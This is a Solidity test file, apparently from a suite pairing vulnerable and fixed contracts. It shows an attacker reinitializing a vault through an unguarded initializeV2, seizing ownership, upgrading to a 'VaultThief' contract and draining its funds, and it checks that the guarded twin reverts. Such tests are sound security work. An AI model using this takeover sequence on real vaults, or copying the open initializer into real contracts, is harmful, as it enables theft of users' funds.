// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {HarborVaultOpenInitializer} from "../../src/bad/HarborVaultOpenInitializer.sol";
import {HarborVaultGuardedInitializer} from "../../src/twin/HarborVaultGuardedInitializer.sol";
import {HarborTest} from "../base/HarborTest.sol";
import {VaultThief} from "../base/VaultThief.sol";
import {Initializable} from "@openzeppelin/contracts/proxy/utils/Initializable.sol";

contract OpenInitializerTest is HarborTest {
    bytes private migration;

    function setUp() public override {
        super.setUp();
        _seed();
        migration = abi.encodeCall(
            HarborVaultOpenInitializer.initializeV2, (BORROW_CAP, address(timelockA))
        );
    }

    function test_openInitializer_givesTheVaultAway() public {
        _upgradeVault(address(new HarborVaultOpenInitializer()), migration);
        assertEq(vault.owner(), address(timelockA), "nothing to be seen at first");

        uint256 idle = asset.balanceOf(address(vault));
        vm.startPrank(mallory);
        HarborVaultOpenInitializer(address(vault)).initializeV2(0, mallory);
        assertEq(vault.owner(), mallory);
        vault.upgradeToAndCall(
            address(new VaultThief()), abi.encodeCall(VaultThief.steal, (asset, mallory))
        );
        vm.stopPrank();
        assertEq(asset.balanceOf(mallory), idle);
    }

    function test_guardedInitializer_revertsWith_InvalidInitialization() public {
        _upgradeVault(address(new HarborVaultGuardedInitializer()), migration);
        assertEq(vault.owner(), address(timelockA));
        vm.expectRevert(Initializable.InvalidInitialization.selector);
        vm.prank(mallory);
        HarborVaultGuardedInitializer(address(vault)).initializeV2(0, mallory);
    }
}
